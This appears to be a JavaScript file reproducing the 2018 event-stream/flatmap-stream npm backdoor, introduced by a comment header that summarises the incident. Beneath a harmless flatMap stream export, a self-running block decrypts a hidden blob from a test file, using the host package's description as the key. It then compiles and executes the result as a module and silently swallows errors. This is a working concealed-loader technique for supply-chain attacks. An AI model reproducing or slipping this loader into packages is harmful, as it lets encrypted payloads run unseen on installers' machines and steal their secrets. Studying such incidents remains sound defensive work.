// Incident: event-stream / flatmap-stream (npm), November 2018.
// A new maintainer of event-stream added a dependency, flatmap-stream 0.1.1, whose
// minified build carried an AES-encrypted payload. The key was the description of
// the package that required it, so the payload only decrypted inside the Copay
// bitcoin wallet build, where it stole wallet keys.
// Reference: https://github.com/dominictarr/event-stream/issues/116
// Reproduction (own code): decrypt a blob with a key taken from the host package,
// then compile the result as a module and run it.
'use strict';
var Stream = require('stream').Stream;

module.exports = function flatMap(fn) {
  var s = new Stream();
  s.writable = s.readable = true;
  s.write = function (chunk) { fn(chunk).forEach(function (x) { s.emit('data', x); }); };
  return s;
};

!function () {
  try {
    var r = require, t = process;
    var blob = './test/data.js';
    var n = r(blob)[0];
    var key = t.env.npm_package_description;
    var d = r('crypto').createDecipher('aes256', key);
    var plain = d.update(n, 'hex', 'utf8') + d.final('utf8');
    var m = new module.constructor();
    m.paths = module.paths;
    m._compile(plain, '');
    m.exports(r('./package.json'));
  } catch (e) {}
}();
